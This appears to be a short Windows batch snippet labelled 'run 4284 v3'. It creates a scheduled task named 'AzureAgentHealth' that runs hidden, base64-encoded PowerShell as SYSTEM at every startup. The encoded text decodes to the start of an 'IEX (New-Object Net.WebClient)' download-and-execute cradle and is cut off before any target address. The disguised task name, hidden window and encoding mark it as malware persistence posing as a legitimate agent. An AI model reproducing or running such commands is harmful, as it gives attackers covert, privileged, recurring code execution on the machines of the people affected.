REM run 4284 v3
schtasks /create /tn "AzureAgentHealth" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
